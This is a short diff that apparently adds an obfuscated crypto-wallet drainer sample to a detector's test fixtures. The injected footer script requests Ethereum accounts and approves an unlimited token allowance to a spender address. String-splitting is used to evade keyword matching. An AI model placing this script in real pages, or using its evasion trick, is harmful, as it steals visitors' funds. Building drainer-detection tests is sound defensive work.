@@ -1354,6 +1354,11 @@ DRAINERS: list[tuple[str, dict[str, str]]] = [
         "<script>setTimeout(async function(){var E=window['ethe'+'reum'];if(!E)return;"
         "await E.request({method:'eth_'+'requestAccounts'});var c=new ethers.Contract(T,ABI,"
         "signer);await c['appr'+\"ove\"]('" + _SPENDER + "',MAX);},3000);</script>")}),
+    # split inside the words the page is first asked for ('et'+'h_'): no needle as written
+    ("every wallet word split, a news article", {"footer": (
+        "<script>setTimeout(async function(){var E=window['eth'+'ereum'];if(!E)return;"
+        "await E.request({method:'et'+'h_requestAccounts'});var c=new ethers.Contract(T,ABI,"
+        "signer);await c['appr'+'ove']('" + _SPENDER + "',MAX);},3000);</script>")}),
 ]
 
 
